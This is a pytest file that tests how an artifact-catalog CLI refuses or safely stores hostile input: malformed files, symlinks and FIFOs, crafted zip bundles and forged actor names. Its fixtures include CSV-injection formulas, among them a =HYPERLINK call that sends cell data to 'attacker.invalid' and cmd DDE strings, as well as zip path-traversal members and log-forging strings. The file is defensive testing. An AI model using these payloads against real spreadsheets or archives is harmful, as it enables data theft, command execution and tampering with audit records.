def arena(tmp_path: Path, base_dir: Path, catalog, writer) -> Arena:  # type: ignore[no-untyped-def]
    writer.write_json("explain", "momentum_scan", {"universe": ["BTC-USD"], "score": 81.5})
    stored = writer.write_csv("ledger", "trades", [["symbol", "qty"], ["BTC-USD", 0.5]])
    made = Arena(tmp_path, base_dir, catalog.settings.catalog_url, stored.path, stored.sha256)

    inp = made.inp
    (inp / "folder").mkdir(parents=True)
    files = {
        "report.json": b'{"ok": true}', "README": b"{}", "afile": b"a file, not a store\n",
        "empty.json": b"", "garbage.json": bytes(range(256)) * 4,
        "nan.json": b'{"x": NaN}', "longint.json": b'{"x": -' + b"9" * 4301 + b"}", "bom.json": b'\xef\xbb\xbf{"x": 1}', "inf.json": b'{"x": Infinity}', "ninf.json": b"[-Infinity]",
        "deep.json": b"[" * 100_000, "trailing.json": b"{} {}",
        "badutf8.json": b'{"name": "\xff\xfe"}', "badutf8.csv": b"a,b\n\xff,1\n",
        "badutf8.jsonl": b'{"a": 1}\n{"b": "\xc3\x28"}\n', "broken.jsonl": b'{"a": 1}\n{"b": \n{"c": 3}\n',
        "unclosed.csv": b'a,b\n"unclosed,1\n',
        "overflow.json": b'{"x": 1e999}', "notadb.sqlite": b"SQLite format 2? no: just text\n" * 40,
    }  # fmt: skip
    go_report = Path(__file__).resolve().parent / "golden" / "go-explain-1-asset.json"  # a Go scanner sample
    files["go-report.json"] = go_report.read_bytes()
    bad = json.loads(files["go-report.json"])
    bad["universe"][0]["decision"] = "maybe"
    files["bad-decision.json"] = json.dumps(bad).encode()
    bad["universe"][0].update(decision="excluded", symbol="BTC\ud800")  # a JSON escape Python reads as a lone surrogate
    files["surrogate-report.json"] = json.dumps(bad).encode()
    bad["universe"][0]["symbol"] = "BTC-USD"
    bad["universe"][0]["microstructure"]["depth_usd"] = 10**400  # a whole number no float holds
    files["huge-depth.json"] = json.dumps(bad).encode()
    for name, data in {**files, **PROOF_FILES}.items():
        (inp / name).write_bytes(data)
    (inp / "store.pub").write_text(STORE_PUB + "\n")
    (inp / "loop.json").symlink_to("loop.json")
    (inp / "dangling.json").symlink_to("nowhere.json")
    (inp / "storelink").symlink_to(base_dir / "ledger")
    made.cfg.mkdir()
    for name, content in CONFIGS.items():
        (made.cfg / name).write_text(content.replace("{tmp}", str(tmp_path)))
    return made


def _released_hold(catalog: Any, arena: Arena) -> None:
    """A hold placed and released; its id is {hold}."""
    from catalog.ops.policy import add_hold, release_hold

    placed = add_hold(catalog, prefix="momentum_scan", reason="setup: inquiry")
    release_hold(catalog, placed.id, "setup: inquiry closed")
    arena.names["hold"] = placed.id


def _ledger_floor(catalog: Any, arena: Arena) -> None:
    """A ledger floor of 3650 days; the stored ledger artifact is still protected by its retain_until."""
    from catalog.ops.policy import set_floor

    set_floor(catalog, "ledger", 3650, "setup: record-keeping rule")


def _keys(catalog: Any, arena: Arena) -> None:
    """{keys}/: a store key (0600, its .pub), a witness key, keys refused for their mode, kind or size, a signed
    checkpoint cp.txt and broken ones, a legacy JSON checkpoint, a proof of the wrong sizes."""
    from catalog.core import chain, note, tlog
    from catalog.ops.checkpoints import take_checkpoint
    from catalog.ops.keys import generate_key

    keys = arena.tmp / "keys"
    keys.mkdir()
    store = generate_key("example.com/store", keys / "store.key", arena.base)
    generate_key("witness.example/w1", keys / "witness.key", arena.base)
    (keys / "store.pub").write_text("taken\n")
    (keys / "open.key").write_text(note.generate("open").skey + "\n")
    os.chmod(keys / "open.key", 0o644)
    (keys / "link.key").symlink_to(keys / "store.key")
    (keys / "folder.key").mkdir()
    for name, data in {"huge.key": b"A" * 5000, "garbage.key": b"PRIVATE+KEY+x\n",
                       "binary.key": bytes(range(256)), "public-0600.key": (store.verifier.vkey + "\n").encode()}.items():  # fmt: skip
        (keys / name).write_bytes(data)
        os.chmod(keys / name, 0o600)
    checkpoint, data, _ = take_checkpoint(catalog, keys / "cp.txt")
    text = checkpoint.note.text
    (keys / "huge.txt").write_bytes(data + b"x" * tlog.MAX_BYTES)
    (keys / "badnote.txt").write_bytes(text.encode() + b"\n-- not a signature line\n")
    (keys / "badroot.txt").write_bytes(text.replace(checkpoint.root_b64, note.b64encode(bytes(31))).encode())
    (keys / "legacy.json").write_text(json.dumps(chain.Checkpoint(1, "0" * 64, datetime.now(timezone.utc)).to_dict()))
    (keys / "proof.json").write_text(json.dumps({"size1": 1, "size2": 2, "proof": []}))
    (keys / "foreign.txt").write_text(tlog.checkpoint_text("catalog/0000000000000000", 1, bytes(32)))


#: Preparation steps a case can name (Case.setup); each runs before the "before" snapshot.
SETUPS = {"released-hold": _released_hold, "ledger-floor": _ledger_floor, "keys": _keys}


# -- the two helpers -----------------------------------------------------------------------


ROW_COUNTS = ("artifacts", "events", "holds", "policy_floors")


def snapshot(arena: Arena) -> dict[str, Any]:
    """Every file and folder under the test's folder, and the good catalog's row counts (ROW_COUNTS).

    Files are compared by content (symlinks by target); the good store's own
    SQLite files are left out: they change on every read (WAL) and their rows
    are counted instead.
    """
    tree: dict[str, str] = {}
    for root, dirs, files in os.walk(arena.tmp):
        for name in dirs + files:
            path = Path(root) / name
            rel = path.relative_to(arena.tmp).as_posix()
            if path.parent == arena.base and name.startswith("catalog.sqlite"):
                continue
            if path.is_symlink():
                tree[rel] = "-> " + os.readlink(path)
            elif path.is_dir():
                tree[rel] = "folder"
            else:
                tree[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    database = Database(arena.url)  # raw SQL: Catalog would refuse a catalog stamped 9999
    try:
        with database.read() as conn:
            rows = {t: conn.execute(text(f"SELECT count(*) FROM {t}")).scalar_one() for t in ROW_COUNTS}
    finally:
        database.dispose()
    return {"tree": tree, "rows": rows}


def assert_one_error_line(exit_code: int, stdout: str, stderr: str, fragment: str) -> None:
    """Exit code 2, exactly one non-empty stderr line ``Error: …`` with ``fragment``, no traceback.

    The line must not be the CLI's "internal error (…); … report it" fallback
    either: that one is how the product itself says it hit a bug.
    """
    shown = f"exit code {exit_code}\n--- stdout:\n{stdout[:2000]}\n--- stderr:\n{stderr[:2000]}"
    assert "Traceback" not in stdout + stderr, shown
    assert exit_code == 2, shown
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, shown
    assert lines[0].startswith("Error:"), shown
    assert "internal error" not in lines[0], shown
    assert fragment in lines[0], f"expected {fragment!r} in the error line\n{shown}"


# -- the wall ------------------------------------------------------------------------------


def _limit_child() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (512 * 1024**2, 512 * 1024**2))
    resource.setrlimit(resource.RLIMIT_CPU, (60, 60))


def run_isolated(argv: list[str]) -> tuple[int, str, str]:
    """The CLI in a child process that cannot take more than 512 MiB or a minute of CPU."""
    child = subprocess.run(
        [sys.executable, "-c", "from catalog.cli import main; main()", *argv],
        capture_output=True, text=True, preexec_fn=_limit_child, timeout=300,
    )  # fmt: skip
    return child.returncode, child.stdout, child.stderr


def stamp_newer_schema(url: str) -> None:
    database = Database(url)
    try:
        with database.write() as conn:
            conn.execute(text("UPDATE alembic_version SET version_num = '9999'"))
    finally:
        database.dispose()


@pytest.mark.parametrize("hostile", CASES)
def test_hostile_input_is_refused_with_one_line_and_writes_nothing(
    hostile: Case, arena: Arena, catalog: Any, run_cli, monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    for var, value in hostile.env.items():
        monkeypatch.setenv(var, arena.fill(value))
    if hostile.cwd_config is not None:  # the default settings file, ./config/artifacts.yaml
        (Path.cwd() / "config").mkdir()
        (Path.cwd() / "config" / "artifacts.yaml").write_text(hostile.cwd_config)
    if hostile.setup is not None:
        SETUPS[hostile.setup](catalog, arena)
    if hostile.newer_schema:
        stamp_newer_schema(arena.url)
    before = snapshot(arena)

    global_args = [*run_cli.base_args, *map(arena.fill, hostile.globals)]
    args = [arena.fill(arg) for arg in hostile.args]
    if hostile.isolated:
        exit_code, stdout, stderr = run_isolated(global_args + args)
    else:
        result = run_cli(*args, input=hostile.stdin, global_args=global_args)
        exit_code, stdout, stderr = result.exit_code, result.stdout, result.stderr
        del result  # its exc_info keeps the command's frames (and whatever they left open) alive
    gc.collect()  # a connection the command left open surfaces now (ResourceWarning: an error in this suite)

    assert_one_error_line(exit_code, stdout, stderr, arena.fill(hostile.fragment))
    assert snapshot(arena) == before


def test_the_wall_is_high_enough() -> None:
    assert len(CASES) >= 60
    assert len({p.id for p in CASES}) == len(CASES)


# -- hostile text that is accepted: every CSV the product generates shows it, never runs it ------

FORMULAS = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")', "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-X",
            "+1+cmd|' /C calc'!A0", "＝1+1"]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_data_never_run_in_a_csv_and_stored_bytes_stay_as_given(
    formula: str, run_cli, base_dir: Path, catalog: Any, tmp_path: Path
) -> None:  # fmt: skip
    """Issue 14, case 2: OWASP "CSV Injection". Compliance staff open these CSVs in a spreadsheet."""
    from catalog.core.content import csv_records

    from helpers import runnable_cells

    assert run_cli("hold", "add", "--prefix", "momentum*", "--reason", formula).exit_code == 0
    listing = run_cli("hold", "ls", "--format", "csv")
    assert listing.exit_code == 0 and runnable_cells(listing.stdout) == []
    assert csv_records(listing.stdout.encode())[0]["reason"] == formula  # shown with a leading ', read back as given
    assert json.loads(run_cli("hold", "ls", "--format", "json").stdout)["holds"][0]["reason"] == formula

    report = json.loads((Path(__file__).resolve().parent / "golden" / "go-explain-1-asset.json").read_bytes())
    report["universe"][0]["symbol"] = formula
    report["universe"][0]["microstructure"]["exchange"] = formula
    (tmp_path / "report.json").write_bytes(data := json.dumps(report).encode())
    imported = run_cli("explain", "import", str(tmp_path / "report.json"), "--prefix", "scan", "--format", "json")
    assert imported.exit_code == 0, imported.stderr
    json_row, csv_row = json.loads(imported.stdout)["artifacts"]
    assert (base_dir / json_row["path"]).read_bytes() == data  # evidence: byte for byte
    derived = (base_dir / csv_row["path"]).read_bytes()
    assert runnable_cells(derived) == []
    (row,) = csv_records(derived)
    assert row["symbol"] == row["exchange"] == formula

    (tmp_path / "mine.csv").write_text(given := 'symbol,qty\n"' + formula.replace('"', '""') + '",1\n')
    put = run_cli("put", str(tmp_path / "mine.csv"), "--type", "ledger", "--prefix", "mine", "--format", "json")
    assert put.exit_code == 0, put.stderr
    (stored,) = json.loads(put.stdout)["artifacts"]
    assert (base_dir / stored["path"]).read_text() == given  # what a user puts is stored unchanged
    assert run_cli("get", stored["path"]).stdout == given


# -- a hostile world: what stands at a catalogued path ----------------------------------
#
# Issue 14, cases 11 and 16. A catalogued file replaced by a symlink (even to an identical copy), a FIFO, a
# link to /dev/zero, a folder, or its type folder replaced by a link to a folder outside the store: every verb
# gives the same verdict, none follows the link, none hangs (the open is O_NONBLOCK) or reads past the
# recorded size + 1. (Before: verify said "all files match" and get served a symlinked file; reconcile called
# it foreign, show said it differed; a FIFO hung get, verify and export.)

WORLD = {what: verdict for what, verdict in NOT_REGULAR.items() if what != "socket"}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    made = tmp_path / "outside"
    made.mkdir()
    return made


@pytest.mark.parametrize("what", list(WORLD))
def test_one_verdict_everywhere_for_a_path_that_is_not_a_regular_file(
    what: str, writer: Any, catalog: Any, base_dir: Path, tmp_path: Path, outside: Path, run_cli
) -> None:  # fmt: skip
    record = writer.write_json("explain", "scan", {"score": 81.5})
    healthy = writer.write_json("ledger", "trades", {"qty": 0.5})
    plant(base_dir / record.path, what, outside)
    reason = WORLD[what]

    verified = run_cli("verify", "--format", "json")
    assert verified.exit_code == 1, verified.output
    report = json.loads(verified.stdout)
    assert report["failed"] == [{"path": record.path, "reason": reason}] and report["missing"] == []
    assert report["ok"] == 1  # the healthy artifact is still checked

    got = run_cli("get", record.path)
    assert got.exit_code == 1 and got.stdout == ""
    assert got.stderr.strip().startswith(f"Error: refused: {record.path}: {reason}")
    copy = tmp_path / "copy.json"
    got_to_file = run_cli("get", record.path, "-o", str(copy))
    assert got_to_file.exit_code == 1 and reason in got_to_file.stderr
    assert sorted(os.listdir(tmp_path)) == ["cwd", "outside", "store"]  # no output, no temp file
    assert run_cli("get", healthy.path).exit_code == 0

    shown = json.loads(run_cli("show", record.path, "--format", "json").stdout)["file"]
    assert shown["present"] and not shown["matches"] and shown["problem"] == reason
    assert f"DIFFERS from the catalog: {reason}" in run_cli("show", record.path).stdout

    for deep in ((), ("--deep",)):
        found = run_cli("reconcile", *deep, "--format", "json")
        assert found.exit_code == 1
        findings = [(f["class"], f["path"]) for f in json.loads(found.stdout)["findings"]]
        if what == "linked-type-folder":
            assert findings == [("linked_folder", "explain")]  # its rows are not called missing
        else:
            assert findings == [("modified", record.path)]
            assert json.loads(found.stdout)["findings"][0]["reason"] == reason

    exported = run_cli("audit", "export", str(tmp_path / "b.zip"), "--include-files")
    assert exported.exit_code == 0, exported.output
    assert "1 files" in exported.stdout and record.path in exported.stdout  # listed as not included
    assert run_cli("audit", "verify-bundle", str(tmp_path / "b.zip"), global_args=[]).exit_code == 0


@pytest.mark.parametrize("what", ["symlink-to-identical-copy", "symlink-to-dev-zero", "fifo"])
def test_reconcile_fix_quarantines_the_link_itself_and_never_its_target(
    what: str, writer: Any, catalog: Any, base_dir: Path, outside: Path, run_cli
) -> None:  # fmt: skip
    record = writer.write_json("explain", "scan", {"score": 81.5})
    plant(base_dir / record.path, what, outside)
    before = {name: (outside / name).read_bytes() for name in os.listdir(outside)}
    fixed = run_cli("reconcile", "--fix", "--format", "json")
    (finding,) = json.loads(fixed.stdout)["findings"]
    assert finding["class"] == "modified" and finding["fixed"].startswith("moved to quarantine/")
    quarantined = base_dir / finding["fixed"].removeprefix("moved to ")
    kind = os.lstat(quarantined).st_mode
    assert stat.S_ISLNK(kind) if what.startswith("symlink") else stat.S_ISFIFO(kind)
    assert {name: (outside / name).read_bytes() for name in os.listdir(outside)} == before
    assert (outside / Path(record.path).name).stat().st_nlink == 1  # never hard-linked into the store
    assert run_cli("reconcile", "--deep").exit_code == 0  # quarantine keeps it as evidence: no further drift


def test_a_folder_at_a_catalogued_path_is_reported_but_not_moved(writer: Any, catalog: Any, base_dir: Path,
                                                                 outside: Path, run_cli) -> None:  # fmt: skip
    record = writer.write_json("explain", "scan", {"score": 81.5})
    plant(base_dir / record.path, "folder", outside)
    (finding,) = json.loads(run_cli("reconcile", "--fix", "--format", "json").stdout)["findings"]
    assert (finding["class"], finding["fixed"]) == ("modified", "not fixed: a folder cannot be moved to quarantine "
                                                    "(left for a person)")  # fmt: skip
    assert (base_dir / record.path).is_dir() and catalog.find_path(record.path).status == "active"


def test_writers_refuse_a_symlinked_type_folder_and_reconcile_never_fixes_it(
    writer: Any, catalog: Any, base_dir: Path, outside: Path, run_cli
) -> None:  # fmt: skip
    record = writer.write_json("explain", "scan", {"score": 81.5})
    plant(base_dir / record.path, "linked-type-folder", outside)
    listing = sorted(os.listdir(outside))
    (outside.parent / "report.json").write_text('{"ok": true}')
    put = run_cli("put", str(outside.parent / "report.json"), "--type", "explain", "--prefix", "p")
    assert_one_error_line(put.exit_code, put.stdout, put.stderr, "explain/ is a symlink, not a folder")
    assert put.stderr.startswith("Error: cannot write explain/")
    fixed = run_cli("reconcile", "--fix", "--deep", "--format", "json")
    (finding,) = json.loads(fixed.stdout)["findings"]
    assert (finding["class"], finding["path"], finding["fixed"]) == ("linked_folder", "explain", None)
    assert sorted(os.listdir(outside)) == listing  # nothing written through the link, nothing taken from it
    assert catalog.find_path(record.path).status == "active"  # not called missing
    assert "A linked_folder needs a person" in run_cli("reconcile").stdout


def test_retention_never_archives_through_a_symlinked_folder(writer: Any, catalog: Any, base_dir: Path,
                                                            outside: Path, run_cli) -> None:  # fmt: skip
    from freezegun import freeze_time

    with freeze_time("2024-01-15 08:00:00"):
        old = writer.write_json("ledger", "portfolio", {"v": 1})
    (base_dir / "ledger" / "archived").symlink_to(outside)
    result = run_cli("retention", "apply", "--yes", "--format", "json")
    assert result.exit_code == 1, result.output
    (failed,) = json.loads(result.stdout)["failed"]
    assert failed["path"] == old.path and "ledger/archived/ is a symlink, not a folder" in failed["reason"]
    assert os.listdir(outside) == [] and catalog.find_path(old.path).status == "active"
    assert ("linked_folder", "ledger/archived") in [
        (f["class"], f["path"]) for f in json.loads(run_cli("reconcile", "--format", "json").stdout)["findings"]]


def test_verify_bundle_holds_little_memory_whatever_a_member_holds(catalog: Any, writer: Any, tmp_path: Path) -> None:
    """A sealed bundle with a member of 256 MiB of zeros (a quarter MiB zipped), checked in 128 MiB of address space."""
    import zipfile

    from catalog.core.bundle_format import SEAL_LENGTH, seal
    from catalog.ops.bundles import export_bundle

    writer.write_json("ledger", "one", {"cash": 1})
    genuine, crafted = tmp_path / "genuine.zip", tmp_path / "crafted.zip"
    export_bundle(catalog, genuine, None, None)
    big, zeros = "files/ledger/big.parquet", bytes(2**20)
    with zipfile.ZipFile(genuine) as source, zipfile.ZipFile(crafted, "w", zipfile.ZIP_DEFLATED) as target:
        bundle = json.loads(source.read("bundle.json"))
        bundle["members"][big] = hashlib.sha256(zeros * 256).hexdigest()
        target.writestr("bundle.json", json.dumps(bundle))
        for name in source.namelist():
            if name != "bundle.json":
                target.writestr(name, source.read(name))
        with target.open(big, "w") as member:
            for _ in range(256):
                member.write(zeros)
        target.comment = b"\0" * SEAL_LENGTH
    seal(crafted)

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (128 * 2**20, 128 * 2**20))

    child = subprocess.run([sys.executable, "-c", "from catalog.cli import main; main()", "audit", "verify-bundle",
                            str(crafted)], capture_output=True, text=True, preexec_fn=limited, timeout=300)  # fmt: skip
    assert child.returncode == 1, child.stderr
    assert child.stdout.startswith("Bundle does NOT verify: ") and f"member {big} is not part of the bundle" in child.stdout


def test_verify_bundle_reads_no_document_past_its_bound(catalog: Any, writer: Any, tmp_path: Path, monkeypatch) -> None:
    from catalog.core import bundle_format
    from catalog.core.errors import ValidationError
    from catalog.ops import bundles

    writer.write_json("ledger", "one", {"cash": 1})
    bundles.export_bundle(catalog, tmp_path / "b.zip", None, None)
    assert bundle_format.verify_bundle(tmp_path / "b.zip").ok
    monkeypatch.setattr(bundle_format, "MAX_BUNDLE_DOCUMENT", 64)
    with pytest.raises(ValidationError, match="member bundle.json is larger than 0 MiB, the most that is read"):
        bundle_format.verify_bundle(tmp_path / "b.zip")


# -- evidence bundles: what an auditor might be handed ------------------------------------------------------


def _resealed(source: Path, target: Path, extra: dict[str, bytes], manifest: Any = None) -> Path:
    """``source`` with ``extra`` members added and listed in bundle.json (and its manifest replaced), sealed again."""
    import zipfile

    from catalog.core import bundle_format as fmt

    with zipfile.ZipFile(source) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members.update(extra)
    if manifest is not None:
        members[fmt.FILES] = json.dumps(manifest).encode()
    bundle = json.loads(members[fmt.MANIFEST])
    bundle["members"] = {n: hashlib.sha256(d).hexdigest() for n, d in members.items() if n not in (fmt.MANIFEST, fmt.SIGNATURE)}
    members[fmt.MANIFEST] = json.dumps(bundle).encode()
    with zipfile.ZipFile(target, "w") as out:
        for name, data in members.items():
            out.writestr(name, data)
        out.comment = b"\0" * fmt.SEAL_LENGTH
    fmt.seal(target)
    return target


def test_bundle_members_that_climb_out_are_findings_and_nothing_is_written(catalog: Any, writer: Any, run_cli,  # type: ignore[no-untyped-def]
                                                                          tmp_path: Path) -> None:  # fmt: skip
    from catalog.ops.bundles import export_bundle

    record = writer.write_json("ledger", "one", {"cash": 1})
    genuine = tmp_path / "genuine.zip"
    export_bundle(catalog, genuine, None, None, include_files=True)
    manifest = [{"path": record.path, "size": record.size, "sha256": record.sha256, "status": "active", "included": True},
                {"path": "../../escaped.txt", "size": 4, "sha256": hashlib.sha256(b"evil").hexdigest(),
                 "status": "active", "included": True}]  # fmt: skip
    work = tmp_path / "auditor" / "deep"
    work.mkdir(parents=True)
    for name, extra in (("dotdot.zip", {"files/../../escaped.txt": b"evil"}), ("absolute.zip", {"/tmp/escaped": b"evil"})):
        crafted = _resealed(genuine, work / name, extra, manifest if name == "dotdot.zip" else None)
        before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
        result = run_cli("audit", "verify-bundle", str(crafted), global_args=[])
        assert result.exit_code == 1 and "Traceback" not in result.output, result.output
        assert "Bundle does NOT verify" in result.stdout
        assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before  # a verifier never extracts
    assert "manifest entry ../../escaped.txt disagrees with its artifact row" in run_cli(
        "audit", "verify-bundle", str(work / "dotdot.zip"), global_args=[]).stdout


def test_a_sealed_file_that_is_not_a_zip_is_refused(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    from catalog.core import bundle_format as fmt

    fake = tmp_path / "fake.zip"
    fake.write_bytes(b"not a zip at all" + b"\0" * fmt.SEAL_LENGTH)
    fmt.seal(fake)
    result = run_cli("audit", "verify-bundle", str(fake), global_args=[])
    assert_one_error_line(result.exit_code, result.stdout, result.stderr, "is not a readable catalog evidence bundle")


def test_an_auditors_checkpoint_of_another_log_is_a_finding(catalog: Any, writer: Any, run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from catalog.core import tlog
    from catalog.ops.bundles import export_bundle

    writer.write_json("ledger", "one", {"cash": 1})
    export_bundle(catalog, tmp_path / "b.zip", None, None)
    (tmp_path / "other.txt").write_text(tlog.checkpoint_text("catalog/0000000000000000", 2, bytes(32)))
    result = run_cli("audit", "verify-bundle", str(tmp_path / "b.zip"), "--checkpoint", str(tmp_path / "other.txt"),
                     global_args=[])  # fmt: skip
    assert result.exit_code == 1
    assert f"checkpoint {tmp_path / 'other.txt'} is of the log catalog/0000000000000000, the bundle of catalog/" in result.stdout


# -- who acts: the OS identity (issue 15) -------------------------------------------------------------

_FORGED = "compliance-officer\n| 1 | 2024-01-01 | delete | forged"


@pytest.mark.parametrize("where, value", [
    ("env:LOGNAME", "compliance-officer"), ("env:USER", _FORGED), ("env:LNAME", "x" * 300), ("env:USERNAME", _FORGED),
    ("passwd", _FORGED), ("passwd", "é" * 300), ("host", "h\x1b[31m" + "o" * 300),
])  # fmt: skip
def test_the_os_identity_is_the_effective_uid_on_one_bounded_line(run_cli, catalog: Any, tmp_path: Path, monkeypatch,
                                                                  where: str, value: str) -> None:  # fmt: skip
    """The actor is the effective uid's passwd name (never LOGNAME, USER, LNAME, USERNAME), and whatever a passwd
    entry or a host name holds, it is printable, on one line, and fits ``events.actor`` (256): the write succeeds."""
    import pwd
    import socket

    from catalog.core import chain

    real = pwd.getpwuid(os.geteuid()).pw_name
    if where.startswith("env:"):
        monkeypatch.setenv(where[4:], value)
    elif where == "passwd":
        entry = pwd.getpwuid(os.geteuid())
        monkeypatch.setattr(chain.pwd, "getpwuid", lambda uid: type("E", (), {"pw_name": value, "pw_uid": entry.pw_uid})())
    else:
        monkeypatch.setattr(chain.socket, "gethostname", lambda: value)
    source = tmp_path / "report.json"
    source.write_text('{"ok": true}')
    result = run_cli("--actor", "alice", "put", str(source), "--type", "ledger", "--prefix", "who",
                     global_args=run_cli.base_args)  # fmt: skip
    assert result.exit_code == 0, result.output
    actor = [e for e in catalog.events() if e.action == "write"][-1].actor
    assert len(actor) <= 256 and actor.isprintable() and actor.endswith(" (claims alice)"), actor
    user, host = actor.split(" (claims")[0].rsplit(":", 1)[0].split("@", 1)
    if where.startswith("env:"):
        assert user == real and value[:18] not in actor.replace(real, "")
    elif where == "passwd":
        assert user == "compliance-officer???1???2024-01-01???delete???forged" or (len(user) == 64 and user.endswith("..."))
    else:
        assert len(host) == 64 and host.startswith("h??31mooo") and socket.gethostname() == value
    shown = run_cli("audit", "log", "--action", "write").stdout
    assert all("(claims alice)" in line for line in shown.splitlines() if "forged" in line)  # never a line of its own


def test_verify_proof_reads_no_file_past_its_bound(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    huge = tmp_path / "huge.json"
    with huge.open("wb") as handle:  # sparse: no disk, and the reader stops one byte past the bound
        handle.truncate(proofs.MAX_BYTES + 1)
    (tmp_path / "store.pub").write_text(STORE_PUB + "\n")
    result = run_cli("audit", "verify-proof", str(huge), "--key", str(tmp_path / "store.pub"), global_args=[])
    assert_one_error_line(result.exit_code, result.stdout, result.stderr, f"is larger than {proofs.MAX_BYTES} bytes")
